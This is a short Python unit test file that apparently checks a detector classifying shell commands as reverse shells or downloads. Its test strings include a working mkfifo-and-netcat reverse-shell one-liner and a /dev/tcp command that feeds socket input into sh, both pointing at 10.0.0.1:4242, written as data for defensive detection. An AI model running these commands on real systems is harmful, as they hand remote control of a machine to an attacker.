"""Sockets and named pipes."""

from __future__ import annotations

from tests.unit.detect.reading import DOWNLOAD, REVERSE, categories


def test_a_shell_between_a_named_pipe_and_the_network_is_a_reverse_shell() -> None:
    assert REVERSE in categories("mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f")
    assert REVERSE not in categories("mkfifo /tmp/f; cat /tmp/f | gzip | nc 10.0.0.1 4242")


def test_what_comes_in_from_a_socket_is_downloaded() -> None:
    assert DOWNLOAD in categories("exec 3<>/dev/tcp/10.0.0.1/4242; sh <&3 >&3")
    assert DOWNLOAD not in categories("exec 3< file; sh <&3")
